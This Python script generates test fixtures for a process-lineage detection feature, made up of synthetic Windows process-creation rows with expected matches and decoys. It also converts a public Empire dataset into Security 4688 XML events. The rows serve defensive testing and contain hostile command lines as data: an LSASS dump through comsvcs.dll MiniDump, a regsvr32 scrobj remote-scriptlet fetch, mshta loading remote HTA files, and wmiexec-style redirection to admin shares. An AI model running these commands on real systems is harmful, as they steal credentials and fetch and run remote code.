#!/usr/bin/env python3
"""Writes tests/data/lineage/chains_guid.csv and chains_pid.csv: hand-made
process-creation rows (CIM Endpoint.Processes names) with the chains that
`lineage=true` must find and the decoys it must not, newest row first (as an
event search returns them), so children come before their parents.

Each row carries `expect`: the match_reason and lineage_path the command
must return it with, or empty when it must not be returned. The GUID file
links by process_guid/parent_process_guid (and has no PIDs); the PID file
links by dest + process_id/parent_process_id + _time (no GUIDs; some PIDs in
Security 4688's hex).

    python3 tests/tools/mk_lineage_fixtures.py
"""
import csv
import os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "data", "lineage")
T0 = 1700000000

# (tag, dest, t, parent_name, name, command line, pid, ppid, guid-tag, parent-guid-tag, expect)
ROWS = [
    # A. Empire over WMI: WmiPrvSE > cmd (names MSBuild) > MSBuild: one detection, on MSBuild.
    ("A-cmd", "WS-1", 10, "WmiPrvSE.exe", "cmd.exe",
     r"cmd.exe /c C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Windows\Tasks\pshell.xml",
     1100, 900, "a1", "wmi1", ""),
    ("A-conhost", "WS-1", 11, "cmd.exe", "conhost.exe", r"\??\C:\windows\system32\conhost.exe 0xffffffff -ForceV1",
     1101, 1100, "a2", "a1", ""),
    ("A-msbuild", "WS-1", 12, "cmd.exe", "MSBuild.exe",
     r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe  C:\Windows\Tasks\pshell.xml",
     1102, 1100, "a3", "a1", "lineage|WmiPrvSE.exe > cmd.exe > MSBuild.exe"),
    # B. Two launchers (lsassy through cmd and PowerShell).
    ("B-cmd", "WS-1", 20, "WmiPrvSE.exe", "cmd.exe", "cmd.exe /Q /c powershell.exe -NoP -C x",
     1200, 900, "b1", "wmi1", ""),
    ("B-ps", "WS-1", 21, "cmd.exe", "powershell.exe",
     r'powershell.exe -NoP -C "C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"',
     1201, 1200, "b2", "b1", ""),
    ("B-rundll32", "WS-1", 22, "powershell.exe", "rundll32.exe",
     r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full",
     1202, 1201, "b3", "b2", "lineage|WmiPrvSE.exe > cmd.exe > powershell.exe > rundll32.exe"),
    # C. smbmap over WMI: the launcher names rundll32, whose own event is missing.
    ("C-cmd", "WS-1", 30, "WmiPrvSE.exe", "cmd.exe",
     r"cmd.exe /Q /c c:\windows\system32\rundll32.exe c:\programdata\7okjer,#1 1> \\127.0.0.1\C$\WqEVwJZYOe 2>&1",
     1300, 900, "c1", "wmi1", "launcher_command_line|WmiPrvSE.exe > cmd.exe > rundll32.exe"),
    # D. Impacket wmiexec's probe: names nothing.
    ("D-cmd", "WS-1", 31, "WmiPrvSE.exe", "cmd.exe",
     r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1",
     1301, 900, "d1", "wmi1", ""),
    # E. A chain through explorer.exe.
    ("E-cmd", "WS-1", 40, "explorer.exe", "cmd.exe", r'"C:\Windows\system32\cmd.exe"',
     1400, 800, "e1", "expl", ""),
    ("E-pcalua", "WS-1", 41, "cmd.exe", "pcalua.exe", r'"C:\Windows\System32\pcalua.exe" -a calc.exe',
     1401, 1400, "e2", "e1", ""),
    # F. The same PID on another host: WS-2's cmd (pid 1500) comes from WMI,
    # but WS-1's mshta's parent is WS-1's cmd 1500 from explorer.
    ("F-cmd-other-host", "WS-2", 50, "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c echo",
     1500, 700, "f1", "wmi2", ""),
    ("F-cmd", "WS-1", 50, "explorer.exe", "cmd.exe", "cmd.exe",
     1500, 800, "f2", "expl", ""),
    ("F-mshta", "WS-1", 51, "cmd.exe", "mshta.exe", "mshta.exe http://x/a.hta",
     1501, 1500, "f3", "f2", ""),
    # G. A PID reused by a later process: WMI's cmd 1600 starts regsvr32;
    # later a cmd from explorer gets pid 1600 and starts another regsvr32.
    ("G-cmd", "WS-1", 60, "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c whoami",
     1600, 900, "g1", "wmi1", ""),
    ("G-regsvr32", "WS-1", 61, "cmd.exe", "regsvr32.exe", "regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll",
     1601, 1600, "g2", "g1", "lineage|WmiPrvSE.exe > cmd.exe > regsvr32.exe"),
    ("G-cmd-reused", "WS-1", 70, "explorer.exe", "cmd.exe", "cmd.exe",
     1600, 800, "g3", "expl", ""),
    ("G-regsvr32-later", "WS-1", 71, "cmd.exe", "regsvr32.exe", "regsvr32 /s x.dll",
     1602, 1600, "g4", "g3", ""),
    # H. A parent cycle: two cmd.exe that are each other's parent.
    ("H-cmd-a", "WS-3", 80, "cmd.exe", "cmd.exe", "cmd.exe /c a",
     1700, 1701, "h1", "h2", ""),
    ("H-cmd-b", "WS-3", 80, "cmd.exe", "cmd.exe", "cmd.exe /c b",
     1701, 1700, "h2", "h1", ""),
    ("H-mshta", "WS-3", 81, "cmd.exe", "mshta.exe", "mshta.exe x",
     1702, 1700, "h3", "h1", ""),
    # I. A process that is its own parent.
    ("I-cmd", "WS-4", 90, "cmd.exe", "cmd.exe", "cmd.exe /c self",
     1800, 1800, "i1", "i1", ""),
    ("I-mshta", "WS-4", 91, "cmd.exe", "mshta.exe", "mshta.exe y",
     1801, 1800, "i2", "i1", ""),
    # J. A direct child: the plain rule's detection.
    ("J-rundll32", "WS-1", 95, "WmiPrvSE.exe", "rundll32.exe", "rundll32 url.dll,OpenURL ms-browser://",
     1900, 900, "j1", "wmi1", "process_name|WmiPrvSE.exe > rundll32.exe"),
]


def guid(tag):
    # a GUID per tag, Sysmon-like
    n = sum(ord(c) * 31 ** i for i, c in enumerate(tag)) & 0xFFFFFFFF
    return "{747f3d96-%04x-5e1e-0000-0010%08x}" % (n & 0xFFFF, n)


def write(path, with_guids):
    header = ["_time", "dest", "parent_process_name", "process_name", "process", "tag", "expect"]
    header += ["process_guid", "parent_process_guid"] if with_guids else ["process_id", "parent_process_id"]
    rows = []
    for i, (tag, dest, t, pname, name, cmd, pid, ppid, g, pg, expect) in enumerate(ROWS):
        # The two launchers of the cycle share their creation time, so the
        # PID file's time rule does not break the cycle for us.
        frac = 0 if tag.startswith("H-cmd") else i
        row = [f"{T0 + t}.{frac:03d}", dest, pname, name, cmd, tag, expect]
        if with_guids:
            row += [guid(g), guid(pg)]
        else:
            # Security 4688 writes PIDs in hex: every third row does here.
            fmt = (lambda v: hex(v)) if i % 3 == 0 else str
            row += [fmt(pid), fmt(ppid)]
        rows.append(row)
    rows.sort(key=lambda r: (r[0], r[5]), reverse=True)  # newest first
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        w.writerows(rows)


# trust_pid.csv: what PID links must not do, and the time forms they must
# read. (tag, dest, _time as written, parent_name, name, command line, pid,
# ppid, expect) -- no GUIDs, so every link is by PID.
TRUST = [
    # K. A reused PID of a process lineage does not track: WMI's cmd (pid
    # 600) exits, notepad reuses 600, a shell naming no parent (old 4688)
    # with parent pid 600 starts rundll32. Its parent was notepad.
    ("K-wmi-cmd", "WS-10", "1700000010", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c echo", 600, 4, ""),
    ("K-notepad", "WS-10", "1700000020", "explorer.exe", "notepad.exe", "notepad.exe", 600, 5, ""),
    ("K-ps", "WS-10", "1700000030", "", "powershell.exe", "powershell.exe -c x", 700, 600, ""),
    ("K-rundll32", "WS-10", "1700000031", "powershell.exe", "rundll32.exe", "rundll32 x,y", 701, 700, ""),
    # L. The same through the WMI host's own row (pid 500, reused by notepad).
    ("L-wmi", "WS-11", "1700000010", "svchost.exe", "WmiPrvSE.exe", "wmiprvse.exe -Embedding", 500, 4, ""),
    ("L-notepad", "WS-11", "1700000020", "explorer.exe", "notepad.exe", "notepad.exe", 500, 5, ""),
    ("L-cmd", "WS-11", "1700000030", "", "cmd.exe", "cmd.exe /c x", 600, 500, ""),
    ("L-mshta", "WS-11", "1700000031", "cmd.exe", "mshta.exe", "mshta.exe x", 601, 600, ""),
    # M. A real chain on a host where the shell's PID is reused before and
    # after, with times as a bare `convert ctime()` writes them: found only
    # when the times are read.
    ("M-old-cmd", "WS-12", "01/13/2020 10:00:00", "explorer.exe", "cmd.exe", "cmd.exe", 800, 5, ""),
    ("M-wmi-cmd", "WS-12", "01/13/2020 11:00:00", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c run.bat", 800, 4, ""),
    ("M-mshta", "WS-12", "01/13/2020 11:00:05", "cmd.exe", "mshta.exe", "mshta.exe http://x/a.hta", 801, 800,
     "lineage|WmiPrvSE.exe > cmd.exe > mshta.exe"),
    ("M-new-cmd", "WS-12", "01/13/2020 12:00:00", "explorer.exe", "cmd.exe", "cmd.exe", 800, 5, ""),
    # N. The same with PowerShell's en-US 12-hour times.
    ("N-old-cmd", "WS-13", "1/13/2020 10:00:00 AM", "explorer.exe", "cmd.exe", "cmd.exe", 800, 5, ""),
    ("N-wmi-cmd", "WS-13", "1/13/2020 11:00:00 AM", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c run.bat", 800, 4, ""),
    ("N-mshta", "WS-13", "1/13/2020 11:00:05 AM", "cmd.exe", "mshta.exe", "mshta.exe http://x/a.hta", 801, 800,
     "lineage|WmiPrvSE.exe > cmd.exe > mshta.exe"),
    ("N-new-cmd", "WS-13", "1/13/2020 12:00:00 PM", "explorer.exe", "cmd.exe", "cmd.exe", 800, 5, ""),
    # O. ISO with a ` UTC` suffix and a comma before the fraction.
    ("O-old-cmd", "WS-14", "2020-01-13 10:00:00 UTC", "explorer.exe", "cmd.exe", "cmd.exe", 800, 5, ""),
    ("O-wmi-cmd", "WS-14", "2020-01-13 11:00:00,250", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c run.bat", 800, 4, ""),
    ("O-mshta", "WS-14", "2020-01-13 11:00:05,500 UTC", "cmd.exe", "mshta.exe", "mshta.exe http://x/a.hta", 801, 800,
     "lineage|WmiPrvSE.exe > cmd.exe > mshta.exe"),
    ("O-new-cmd", "WS-14", "2020-01-13T12:00:00Z", "explorer.exe", "cmd.exe", "cmd.exe", 800, 5, ""),
    # P. No host: PID links are refused (these could be two machines).
    ("P-cmd", "", "1700000010", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c x", 900, 4, ""),
    ("P-mshta", "unknown", "1700000011", "cmd.exe", "mshta.exe", "mshta.exe x", 901, 900, ""),
    # Q. A time that is present but unreadable: the row is read as untimed
    # (one shell with that PID: linked) and the value is named in a WARN.
    ("Q-wmi-cmd", "WS-16", "1700000010", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c x", 300, 4, ""),
    ("Q-regsvr32", "WS-16", "yesterday", "cmd.exe", "regsvr32.exe", "regsvr32 /s x.dll", 301, 300,
     "lineage|WmiPrvSE.exe > cmd.exe > regsvr32.exe"),
    # R. A child (t=50) older than the only cmd.exe with its parent PID (a
    # WMI shell at t=100), while an untimed powershell also had that PID:
    # the untimed rule looks only at shells that may be older than the
    # child, so the later WMI shell is not its parent.
    ("R-ps", "WS-17", "", "explorer.exe", "powershell.exe", "powershell.exe", 600, 5, ""),
    ("R-mshta", "WS-17", "1700000050", "cmd.exe", "mshta.exe", "mshta.exe x", 601, 600, ""),
    ("R-wmi-cmd", "WS-17", "1700000100", "WmiPrvSE.exe", "cmd.exe", "cmd.exe /c x", 600, 4, ""),
]


def write_trust(path):
    header = ["_time", "dest", "parent_process_name", "process_name", "process", "tag", "expect",
              "process_id", "parent_process_id"]
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        # Newest first, by tag's place: children before their parents.
        for (tag, dest, t, pname, name, cmd, pid, ppid, expect) in reversed(TRUST):
            w.writerow([t, dest, pname, name, cmd, tag, expect, pid, ppid])


os.makedirs(OUT, exist_ok=True)
write(os.path.join(OUT, "chains_guid.csv"), True)
write(os.path.join(OUT, "chains_pid.csv"), False)
write_trust(os.path.join(OUT, "trust_pid.csv"))
print("wrote", OUT)

# The Empire set's Security 4688 events (from empire_msbuild_process_creations.jsonl,
# OTRF Security-Datasets, MIT) rendered as XML <Event> lines, as Splunk's
# XmlWinEventLog stores Security events: the same chain linked by hex PIDs.
from xml.sax.saxutils import escape  # noqa: E402
import datetime  # noqa: E402
import json  # noqa: E402

EVENT_DATA = ["SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId",
              "NewProcessId", "NewProcessName", "TokenElevationType", "ProcessId", "CommandLine",
              "TargetUserSid", "TargetUserName", "TargetDomainName", "TargetLogonId",
              "ParentProcessName", "MandatoryLabel"]
src = os.path.join(OUT, "empire_msbuild_process_creations.jsonl")
dst = os.path.join(OUT, "empire_msbuild_4688.xml.log")
with open(src, encoding="utf-8") as f, open(dst, "w", encoding="utf-8", newline="\n") as out:
    for line in f:
        e = json.loads(line)
        if e.get("EventID") != 4688:
            continue
        # EventTime is the host's local time, UTC-4 in this dataset.
        local = datetime.datetime.strptime(e["EventTime"], "%Y-%m-%d %H:%M:%S")
        utc = (local + datetime.timedelta(hours=4)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
        data = "".join(
            f'<Data Name="{k}">{escape(str(e.get(k, "")))}</Data>' for k in EVENT_DATA)
        out.write(
            '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
            '<Provider Name="Microsoft-Windows-Security-Auditing" '
            'Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"></Provider>'
            f'<EventID>4688</EventID><Version>{e.get("Version", 2)}</Version>'
            f'<TimeCreated SystemTime="{utc}"></TimeCreated>'
            f'<EventRecordID>{e["RecordNumber"]}</EventRecordID>'
            f'<Channel>Security</Channel><Computer>{escape(e["Hostname"])}</Computer></System>'
            f'<EventData>{data}</EventData></Event>\n')
print("wrote", dst)
